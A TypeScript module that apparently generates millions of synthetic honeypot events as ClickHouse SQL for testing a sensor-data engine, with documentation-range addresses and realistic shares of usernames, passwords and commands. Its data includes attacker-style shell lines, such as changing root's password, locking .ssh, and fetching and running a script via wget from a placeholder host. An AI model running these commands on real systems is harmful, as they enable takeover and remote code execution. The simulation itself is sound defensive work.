/**
 * Plausible events by the million, made by the engine itself out of numbers: event `n` of seed `s` is the same at
 * each run but for the moment at which the year ends. Shares follow recordings of Cowrie and of network sensors
 * on the internet: six in ten log-ins try `root`, the ten most frequent passwords are a tenth of all, one bot's
 * script is most of what is typed, and few sources come often while most come a few times.
 *
 * All addresses, names and numbers of systems are from ranges kept for documentation and tests.
 */
import { event_columns } from '@apiary/model/event.ts';

/** How many different values there can be; a value of rank r·cardinality has been drawn with r = u^skew. */
export const cardinalities = {
  sources: { count: 150_000, skew: 3 },
  passwords: { count: 80_000, skew: 4 },
  usernames: { count: 5_000, skew: 3 },
  commands: { count: 20_000, skew: 3 },
  countries: { count: 90, skew: 2.5 },
  systems: { count: 3_000, skew: 3 },
} as const;

/** Sensors, the busiest first. */
export const generated_sensors: readonly { name: string; type: string }[] = (
  [
    ['cowrie', 8],
    ['dionaea', 4],
    ['honeytrap', 3],
    ['suricata', 2],
    ['heralding', 2],
    ['conpot', 1],
  ] as const
).flatMap(([type, count]) =>
  Array.from({ length: count }, (_, index) => ({ name: `${type}-${index + 1}`, type })),
);

const day_s = 86_400;
export const year_s = 365 * day_s;
/** Numbers that make one session; a scan's are eight sources of one event each. */
const session_events = 8;

const list = (values: readonly (string | number)[]): string =>
  `[${values.map((value) => (typeof value === 'number' ? value : `'${value}'`)).join(', ')}]`;

const script = [
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'cat /proc/cpuinfo | grep name | wc -l',
  'echo "root:invented"|chpasswd|bash',
  'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh',
  "free -m | grep Mem | awk ''{print $2 ,$3, $4, $5, $6, $7}''",
  'ls -lh $(which ls)',
  'which ls',
  'crontab -l',
  'w',
  'uname -m',
  'cat /proc/cpuinfo | grep model | grep name | wc -l',
  'top',
  'uname',
  'uname -a',
  'whoami',
  'lscpu | grep Model',
];
const services: Record<string, readonly string[]> = {
  dionaea: ['smb', 'smb', 'smb', 'mssql', 'mysql', 'http', 'ftp', 'sip', 'mqtt', 'upnp'],
  honeytrap: ['http', 'rdp', 'vnc', 'redis', 'adb', '', '', ''],
  heralding: ['vnc', 'vnc', 'socks5', 'postgresql', 'imap', 'pop3', 'smtp'],
  conpot: ['modbus', 's7comm', 'snmp', 'bacnet', 'ipmi'],
};
const ports: Record<string, number> = {
  ssh: 22,
  telnet: 23,
  smb: 445,
  mssql: 1433,
  mysql: 3306,
  http: 80,
  ftp: 21,
  sip: 5060,
  mqtt: 1883,
  upnp: 1900,
  rdp: 3389,
  vnc: 5900,
  redis: 6379,
  adb: 5555,
  socks5: 1080,
  postgresql: 5432,
  imap: 143,
  pop3: 110,
  smtp: 25,
  modbus: 502,
  s7comm: 102,
  snmp: 161,
  bacnet: 47808,
  ipmi: 623,
};

export interface Generation {
  seed: number;
  /** All events of the year; `from` and `to` cut a block out of them. */
  events: number;
  from: number;
  to: number;
  /** End of the year that the events fill. */
  end_ms: number;
  /** Numbers of the sensors in the engine, in the order of `generated_sensors`. */
  sensor_ids: readonly number[];
  /** Events that one source makes on end, against one service of one sensor; absent: each session has a source of its own. */
  visit_events?: number;
}

/** A number in [0, 1) that depends on `key` and on nothing else but the seed. */
export const uniform = (seed: number, what: string, key: string): string =>
  `(cityHash64(${seed}, '${what}', ${key}) / 18446744073709551616.)`;

/** The rank of a value, small ones often, by the cardinality of its name. */
export const rank = (seed: number, name: keyof typeof cardinalities, key: string): string => {
  const { count, skew } = cardinalities[name];
  return `toUInt32(floor(${count} * pow(${uniform(seed, name, key)}, ${skew})))`;
};

/** What is known of the source of a rank, which stands in the SQL as `source_rank`. */
export function sourceColumns(seed: number): { address: string; country: string; asn: string } {
  const near = 'intDiv(source_rank * 48271, 256)';
  const country = rank(seed, 'countries', near);
  return {
    // IPv4 as far as the range for benchmarks reaches; the rarest sources have IPv6.
    address:
      "if(source_rank < 131072, toIPv6(toIPv4(toUInt32(3323068416 + (source_rank * 48271) % 131072))), toIPv6(concat('2001:db8::', lower(hex(source_rank % 65536)))))",
    country: `concat(char(65 + ${country} % 26), char(65 + intDiv(${country} * 7, 26) % 26))`,
    asn: `toUInt32(4200000000 + ${rank(seed, 'systems', near)})`,
  };
}

/** The password of a rank, which stands in the SQL as `password_rank`. */
export const password_sql =
  "multiIf(password_rank = 0, '123456', password_rank % 3 = 0, concat('Passw0rd!', toString(password_rank)), password_rank % 3 = 1, toString(100000 + password_rank), lower(hex(cityHash64('password', password_rank))))";

/** What the values of one event are reckoned from. */
function intermediateColumns({ seed, events, end_ms, sensor_ids, visit_events }: Generation): string {
  const types = generated_sensors.map(({ type }) => type);
  const service_of = Object.entries(services)
    .map(([type, names]) => `sensor_type = '${type}', ${list(names)}[1 + service_key % ${names.length}]`)
    .join(', ');
  const visit = visit_events === undefined ? 'session_number' : `intDiv(n, ${visit_events})`;
  const place = visit_events === undefined ? 'group_number' : visit;
  // Within a day events come densest at its begin and rarest at its middle, by a factor of three.
  return `number AS n,
    n * ${year_s / events} AS even_s,
    even_s / ${day_s} - floor(even_s / ${day_s}) AS even_share,
    ${end_ms / 1000 - year_s} + floor(even_s / ${day_s}) * ${day_s} + ${day_s} * (even_share - 0.5 * sin(2 * pi() * even_share) / (2 * pi())) AS second,
    second - 60 * ${uniform(seed, 'jitter', 'n')} AS detect_s,
    intDiv(n, ${session_events}) AS group_number,
    n % ${session_events} AS step,
    toUInt32(floor(${generated_sensors.length} * pow(${uniform(seed, 'sensor', place)}, 2))) AS sensor_index,
    ${list(sensor_ids)}[1 + sensor_index] AS sensor,
    ${list(types)}[1 + sensor_index] AS sensor_type,
    multiIf(sensor_type IN ('suricata', 'honeytrap'), 'scan', ${uniform(seed, 'kind', 'group_number')} < 0.35, 'guess', ${uniform(seed, 'kind', 'group_number')} < 0.7, 'shell', 'scan') AS kind,
    if(kind = 'scan', n, group_number) AS session_number,
    ${rank(seed, 'sources', visit)} AS source_rank,
    cityHash64(${seed}, 'service', ${visit}) AS service_key,
    multiIf(sensor_type IN ('cowrie', 'suricata'), if(service_key % 4 = 0, 'telnet', 'ssh'), ${service_of}, '') AS service_name,
    multiIf(kind = 'scan', 'scan', step < 2, 'probe', kind = 'guess' OR step = 2, 'authenticate', step < 7, 'input', 'download') AS what,
    ${rank(seed, 'usernames', 'n')} AS username_rank,
    ${rank(seed, 'passwords', 'n')} AS password_rank,
    ${rank(seed, 'commands', 'n')} AS command_rank`;
}

/** One expression for each column that is not left at its default. */
function valueColumns({ seed }: Generation): Record<string, string> {
  const known_ports = Object.keys(ports);
  const { address, country, asn } = sourceColumns(seed);
  return {
    event_id: `cityHash64(${seed}, 'event', n)`,
    sensor_id: 'sensor',
    sensor_type: 'sensor_type',
    sensor_table: "concat(sensor_type, if(sensor_type = 'cowrie', '_json', '_events'))",
    generation: 'toUInt64(sensor)',
    place: 'n',
    segment_id: 'intDiv(n, 2000)',
    detect_ts: "fromUnixTimestamp64Micro(toInt64(detect_s * 1000000), 'UTC')",
    collect_ts: "fromUnixTimestamp64Micro(toInt64((second + 1) * 1000000), 'UTC')",
    action: 'what',
    target_kind:
      "multiIf(what IN ('scan', 'probe'), 'computer', what = 'authenticate', 'account', 'process')",
    target: "multiIf(what IN ('scan', 'probe'), '192.0.2.1', what = 'authenticate', username, 'shell')",
    outcome:
      "multiIf(what = 'authenticate' AND kind = 'shell', 'success', what = 'authenticate', 'failure', 'unknown')",
    attacker_ip: address,
    attacker_country: country,
    attacker_asn: asn,
    source_ip: 'attacker_ip',
    source_port: `toUInt16(1024 + cityHash64(${seed}, 'port', session_number) % 64000)`,
    destination_ip: "toIPv6(concat('192.0.2.', toString(sensor_index + 1)))",
    destination_port: `transform(service_name, ${list(known_ports)}, ${list(Object.values(ports))}, toUInt16(1 + service_key % 10000))`,
    direction: "'inbound'",
    vantage: "if(sensor_type = 'suricata', 'network', 'honeypot')",
    service: 'service_name',
    transport: "if(service_name IN ('sip', 'snmp', 'upnp', 'bacnet', 'ipmi'), 'udp', 'tcp')",
    session: `lower(hex(cityHash64(${seed}, 'session', session_number)))`,
    username: `multiIf(what != 'authenticate', '', ${uniform(seed, 'root', 'n')} < 0.6, 'root', username_rank = 0, 'admin', concat('user', toString(username_rank)))`,
    password: `if(what != 'authenticate', '', ${password_sql})`,
    command: `if(what != 'input', '', if(${uniform(seed, 'script', 'n')} < 0.7, ${list(script)}[1 + n % ${script.length}], concat('cd /tmp; wget http://192.0.2.', toString(command_rank % 250), '/', lower(hex(cityHash64('command', command_rank))), '.sh; sh x.sh')))`,
    url: "if(what = 'download', concat('http://192.0.2.', toString(command_rank % 250), '/bins.sh'), '')",
    file_sha256: "if(what = 'download', lower(hex(SHA256(toString(command_rank % 2000)))), '')",
    fingerprint: "if(service_name = 'ssh' AND step = 1, lower(hex(MD5(toString(service_key % 300)))), '')",
    user_agent:
      "if(service_name = 'ssh' AND step = 1, concat('SSH-2.0-libssh_0.', toString(service_key % 300)), '')",
    signature:
      "if(sensor_type = 'suricata', concat('invented rule ', toString(service_key % 500), if(service_key % 20 = 0, concat(' CVE-2021-', toString(40000 + service_key % 500)), '')), '')",
  };
}

/** @returns the INSERT of one block, in order of time as segments come */
export function generateBlock(generation: Generation): string {
  const values = valueColumns(generation);
  const columns = event_columns.map(({ name }) => name).filter((name) => values[name] !== undefined);
  const selected = columns.map((name) => `${values[name]} AS ${name}`);
  return `INSERT INTO event (${columns.join(', ')})
  SELECT ${selected.join(',\n    ')}
  FROM (SELECT ${intermediateColumns(generation)} FROM numbers(${generation.from}, ${generation.to - generation.from}))`;
}
